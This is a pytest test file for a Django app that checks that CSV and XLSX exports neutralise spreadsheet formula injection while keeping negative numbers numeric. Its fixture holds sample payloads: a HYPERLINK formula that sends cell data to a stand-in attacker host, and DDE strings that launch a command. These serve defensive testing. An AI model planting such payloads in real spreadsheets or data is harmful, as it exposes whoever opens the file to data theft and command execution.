"""Exports never hand a spreadsheet a formula: text cells that a spreadsheet would evaluate
(starting with =, +, -, @, tab or CR) are written as text, numbers stay numbers."""

import csv

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from hub.imports.engine import run_import, stream_csv
from hub.imports.models import ImportJob
from hub.imports.services import resource_get
from inventory.models import StockLevel
from tests.catalog.factories import ProductFactory
from tests.inventory.factories import WarehouseFactory

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "F1": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "F2": "+cmd|' /C calc'!A0",
    "F3": "-2+3",
    "F4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F5": "\t=1+1",
    "F6": "\r=1+1",
    "F7": "'=already quoted",
}


def dangerous_products():
    for sku, name in DANGEROUS.items():
        ProductFactory(sku=sku, name=name, brand="Acme")


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_writes_formula_like_text_as_quoted_text(tmp_path):
    dangerous_products()
    path = tmp_path / "products.csv"
    call_command("hub_export", "products", str(path), "--no-progress")
    names = {row["sku"]: row["name"] for row in read_csv(path)}
    assert names == {sku: "'" + name for sku, name in DANGEROUS.items()}


def test_streamed_csv_export_is_neutralised_too():
    dangerous_products()
    rows = list(csv.reader("".join(stream_csv(resource_get("products"))).lstrip("\ufeff").splitlines()))
    assert {row[0]: row[1] for row in rows[1:]}["F1"] == "'" + DANGEROUS["F1"]


def test_negative_numbers_stay_numbers_in_csv_and_xlsx(tmp_path):
    product, warehouse = ProductFactory(sku="NEG"), WarehouseFactory(code="LYON")
    StockLevel.objects.create(product=product, warehouse=warehouse, on_hand=2, reserved=7)
    call_command("hub_export", "stock", str(tmp_path / "stock.csv"), "--no-progress")
    assert read_csv(tmp_path / "stock.csv")[0]["available"] == "-5"
    call_command("hub_export", "stock", str(tmp_path / "stock.xlsx"), "--no-progress")
    cell = load_workbook(tmp_path / "stock.xlsx").active["G2"]
    assert (cell.value, cell.data_type) == (-5, "n")


def test_xlsx_export_writes_formula_like_text_as_strings_not_formulas(tmp_path):
    dangerous_products()
    path = tmp_path / "products.xlsx"
    call_command("hub_export", "products", str(path), "--no-progress")
    sheet = load_workbook(path).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    # XML parsers read a CR as a line feed; what matters is that every cell is a string.
    assert {sku: (cell.value, cell.data_type) for sku, cell in cells.items()} == {
        sku: (name.replace("\r", "\n") if sku != "F7" else "'" + name, "s") for sku, name in DANGEROUS.items()
    }


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_neutralised_exports_import_back_unchanged(tmp_path, suffix):
    dangerous_products()
    if suffix == "xlsx":  # imports trim cells, and an XLSX string carries no quote to protect a leading tab
        ProductFactory._meta.model.objects.filter(sku__in=["F5", "F6"]).delete()
    path = tmp_path / f"products.{suffix}"
    call_command("hub_export", "products", str(path), "--no-progress")
    result = run_import(resource_get("products"), path, dry_run=True)
    assert result.ok, [str(e) for e in result.errors]
    assert result.updated == 0 and result.unchanged == len(DANGEROUS) - (2 if suffix == "xlsx" else 0)


def test_the_admin_error_report_neutralises_values_and_messages(admin_client):
    upload = SimpleUploadedFile("p.csv", b"sku,name,weight_g\nA1,Lamp,=1+2\n")
    admin_client.post("/admin/hub/importjob/new/", {"resource": "products", "file": upload, "import": "1"})
    job = ImportJob.objects.get()
    report = admin_client.get(f"/admin/hub/importjob/{job.pk}/errors.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(report.splitlines()))
    assert rows[1] == ["2", "weight_g", "'=1+2", "weight_g is not a whole number"]


def test_xlsx_export_replaces_characters_xml_cannot_carry(tmp_path):
    ProductFactory(sku="C1", name="Lamp\x01\x08 bright")
    call_command("hub_export", "products", str(tmp_path / "p.xlsx"), "--no-progress")
    assert load_workbook(tmp_path / "p.xlsx").active["B2"].value == "Lamp\ufffd\ufffd bright"
